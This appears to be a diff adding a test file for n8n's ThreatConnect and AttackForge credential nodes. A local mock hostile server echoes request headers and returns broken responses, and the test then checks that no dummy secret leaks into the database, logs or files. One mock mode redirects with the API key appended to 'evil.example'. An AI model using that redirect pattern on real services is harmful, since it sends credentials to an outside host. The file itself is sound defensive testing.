@@ -1,0 +1,258 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { startAttackForge } from '../simulators/attackforge';
+import type { RunningServer } from '../simulators/shared/server';
+import { openStage, type Stage } from './stage';
+import { ATTACKFORGE, failuresOf, runByHand, THREATCONNECT, workflowOf } from './workflows';
+
+/**
+ * Every way to fail, in an n8n that saves all executions and logs as much as it can; then no secret stands anywhere
+ * in its user folder: database, logs, files.
+ */
+
+/** Found as they are nowhere else. */
+const SECRETS = {
+	threatConnectApi: 'APIV2:977:s3cReT:1924905600000:dG9rZW4tb2YtdGhlLXNlY3JldHMtdGVzdA==',
+	threatConnectHmacApi: 'HmacKeyOfTheSecretsTest!$^&(0123456789)[abcdef]{ABCDEF}/+=~',
+	attackForgeApi: 'KeyOfTheSecretsTest0123456789'.repeat(8),
+};
+type Credential = keyof typeof SECRETS;
+
+const secretFields: Record<Credential, (secret: string) => Record<string, string>> = {
+	threatConnectApi: (apiToken) => ({ apiToken }),
+	threatConnectHmacApi: (secretKey) => ({ accessId: '11112222333344445555', secretKey }),
+	attackForgeApi: (apiKey) => ({ apiKey }),
+};
+
+/** Proof that what the hostile server says does reach the folder that is searched. */
+const MARKER = 'marker-of-the-hostile-server';
+
+/** The request as it came, its headers and so its secret included. */
+const echo = ({ method, url, headers }: IncomingMessage) =>
+	`${MARKER} ${method} ${url} ${JSON.stringify(headers)}`;
+
+type Answer = (request: IncomingMessage, response: ServerResponse) => void;
+
+const withJson =
+	(status: number): Answer =>
+	(request, response) => {
+		const message = echo(request);
+		const statusText = String(request.headers.authorization ?? request.headers['x-ssapi-key']);
+		response.writeHead(status, statusText, { 'content-type': 'application/json' });
+		response.end(JSON.stringify({ status: 'Failure', message, error: message, headers: request.headers }));
+	};
+
+const plain =
+	(status: number, type: string, text: string): Answer =>
+	(_request, response) => {
+		response.writeHead(status, { 'content-type': type });
+		response.end(text);
+	};
+
+/**
+ * The HTTP Request node gives out what a service answers, as it is: no credential can keep a secret out of it that the
+ * service itself repeats.
+ */
+const repeatsNothing = (mode: string) => !/echo|html|half-json|redirect/.test(mode);
+
+/** By the first part of the path, which each credential's Base URL has. */
+const HOSTILE: Record<string, Answer> = {
+	'401-echo': withJson(401),
+	'403-echo': withJson(403),
+	'404-echo': withJson(404),
+	'500-echo': withJson(500),
+	'200-echo': withJson(200),
+	html: (request, response) => {
+		response.writeHead(502, { 'content-type': 'text/html' });
+		response.end(`<html><body><h1>Bad gateway</h1><pre>${echo(request)}</pre></body></html>`);
+	},
+	'half-json': (request, response) => {
+		response.writeHead(200, { 'content-type': 'application/json' });
+		response.end(`{"status":"Success","data":{"name":"${echo(request).replace(/"/g, '\\"')}`);
+	},
+	redirect: (request, response) => {
+		const secret = String(request.headers.authorization ?? request.headers['x-ssapi-key']);
+		response.writeHead(302, { location: `https://evil.example/?key=${encodeURIComponent(secret)}` });
+		response.end();
+	},
+	'401': plain(401, 'application/json', `{"message":"${MARKER}"}`),
+	'403': plain(403, 'application/json', `{"message":"${MARKER}"}`),
+	'500': plain(500, 'text/html', `<html><body>${MARKER}</body></html>`),
+	reset: (request) => request.socket.destroy(),
+	timeout: () => {},
+};
+
+let stage: Stage;
+let hostile: Server;
+let selfSigned: RunningServer;
+const said: string[] = [];
+
+beforeAll(async () => {
+	hostile = createServer((request, response) => {
+		const [, mode = ''] = (request.url ?? '').split('/');
+		request.resume().on('end', () => HOSTILE[mode]?.(request, response));
+	});
+	await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
+	selfSigned = await startAttackForge({ tls: true });
+	stage = await openStage({
+		env: {
+			N8N_LOG_LEVEL: 'debug',
+			N8N_LOG_OUTPUT: 'console,file',
+			N8N_DEFAULT_BINARY_DATA_MODE: 'filesystem',
+			EXECUTIONS_DATA_SAVE_ON_SUCCESS: 'all',
+			EXECUTIONS_DATA_SAVE_ON_ERROR: 'all',
+		},
+	});
+});
+afterAll(async () => {
+	hostile?.closeAllConnections();
+	hostile?.close();
+	await selfSigned?.stop();
+	await stage?.close();
+});
+
+/** Both nodes, and the HTTP Request node, going on after a failure and stopping at it. */
+function failing(type: Credential, name: string, url: string | undefined) {
+	const isAttackForge = type === 'attackForgeApi';
+	const own = {
+		type: isAttackForge ? ATTACKFORGE : THREATCONNECT,
+		parameters: {
+			...(type === 'threatConnectHmacApi' && { authentication: 'hmac' }),
+			operation: 'create',
+			dataMode: 'json',
+			jsonBody: JSON.stringify(
+				isAttackForge
+					? {
+							name: 'A',
+							group_owner: 'B',
+							primary_contact_name: 'C',
+							primary_contact_number: '1',
+							primary_contact_email: 'c@example.com',
+						}
+					: { type: 'Incident', name: 'A' },
+			),
+			options: { timeout: 2 },
+		},
+		credentials: { [type]: name },
+	};
+	const httpRequest = {
+		type: 'n8n-nodes-base.httpRequest',
+		typeVersion: 4.5,
+		parameters: {
+			authentication: 'predefinedCredentialType',
+			nodeCredentialType: type,
+			url: `${url}${isAttackForge ? '/api/ss/groups' : '/api/v3/groups'}`,
+			options: { timeout: 2000, response: { response: { fullResponse: true } } },
+		},
+		credentials: { [type]: name },
+	};
+	const nodes = [
+		{ name: 'Own', ...own },
+		...(url === undefined ? [] : [{ name: 'HTTP Request', ...httpRequest }]),
+	];
+	return [
+		workflowOf(`${name} on`, ...nodes.map((node) => ({ ...node, onError: 'continueRegularOutput' }))),
+		...nodes.map((node) => workflowOf(`${name} ${node.name}`, node)),
+	];
+}
+
+/** @param url where the HTTP Request node asks; without one it is left out */
+async function fail(
+	type: Credential,
+	name: string,
+	data: Record<string, string>,
+	url?: string,
+): Promise<void> {
+	const { session } = stage;
+	said.push(JSON.stringify(await session.testCredential(name, type, data)));
+	await session.addCredential(name, type, data);
+	for (const workflow of failing(type, name, url)) {
+		const execution = await runByHand(session, workflow);
+		said.push(JSON.stringify(execution), ...failuresOf(execution));
+	}
+}
+
+const types = Object.keys(SECRETS) as Credential[];
+
+test.each(types)('%s: fails in every way that a service or a network has', async (type) => {
+	const secret = secretFields[type](SECRETS[type]);
+	const { port } = hostile.address() as AddressInfo;
+	await Promise.all(
+		Object.keys(HOSTILE).map(async (mode) => {
+			const baseUrl = `http://127.0.0.1:${port}/${mode}`;
+			await fail(type, `${type} ${mode}`, { ...secret, baseUrl }, repeatsNothing(mode) ? baseUrl : undefined);
+		}),
+	);
+});
+
+test.each(types)(
+	'%s: fails with a bad Base URL, one that is the secret itself, and a bad certificate',
+	async (type) => {
+		const secret = SECRETS[type];
+		const bases = {
+			certificate: selfSigned.url,
+			unknown: 'https://no-such-host.invalid',
+			insecure: 'http://service.example.com',
+			password: `https://user:${encodeURIComponent(secret)}@127.0.0.1:1`,
+			itself: secret,
+			'itself with scheme': `https://${secret}`,
+		};
+		for (const [name, baseUrl] of Object.entries(bases)) {
+			const data = { ...secretFields[type](secret), baseUrl };
+			await fail(type, `${type} ${name}`, data, selfSigned.url);
+		}
+	},
+);
+
+/** The forms in which a secret could stand somewhere; the database may cut long ones into pages. */
+function formsOf(secret: string): string[] {
+	const parts = [secret.slice(0, 32), secret.slice(-28)];
+	const base64 = Buffer.from(secret).toString('base64');
+	return [
+		...new Set([
+			...parts,
+			...parts.map((part) => encodeURIComponent(part)),
+			...parts.map((part) => part.toLowerCase()),
+			base64.slice(0, 32),
+			Buffer.from(secret).toString('base64url').slice(0, 32),
+		]),
+	];
+}
+
+function filesIn(folder: string): string[] {
+	return readdirSync(folder, { recursive: true, withFileTypes: true })
+		.filter((entry) => entry.isFile())
+		.map((entry) => join(entry.parentPath, entry.name))
+		.filter((path) => !path.includes(join('nodes', 'node_modules')));
+}
+
+test('no secret stands in any output, error, log, execution record or file', async () => {
+	await stage.n8n.stop();
+	const files = filesIn(stage.folder);
+	const contents = files.map((path) => ({ path, bytes: readFileSync(path) }));
+	// All that is to be searched is there, and what a service says does get into it.
+	expect(files.some((path) => path.endsWith('database.sqlite'))).toBe(true);
+	expect(files.filter((path) => path.endsWith('.log')).length).toBeGreaterThanOrEqual(2);
+	const marked = contents.filter(({ bytes }) => bytes.includes(MARKER)).map(({ path }) => path);
+	expect(marked.some((path) => path.includes('database.sqlite'))).toBe(true);
+	expect(said.join('\n')).toContain(MARKER);
+
+	const found = Object.entries(SECRETS).flatMap(([type, secret]) =>
+		formsOf(secret).flatMap((form) => [
+			...contents
+				.filter(({ bytes }) => bytes.includes(form))
+				.map(({ path, bytes }) => `${type} in ${path}: ${around(bytes.toString('latin1'), form)}`),
+			...said
+				.filter((text) => text.includes(form))
+				.map((text) => `${type} in an answer of n8n: ${around(text, form)}`),
+		]),
+	);
+	expect(found).toEqual([]);
+});
+
+const around = (text: string, form: string) => {
+	const at = text.indexOf(form);
+	return text.slice(Math.max(0, at - 200), at + 60);
+};
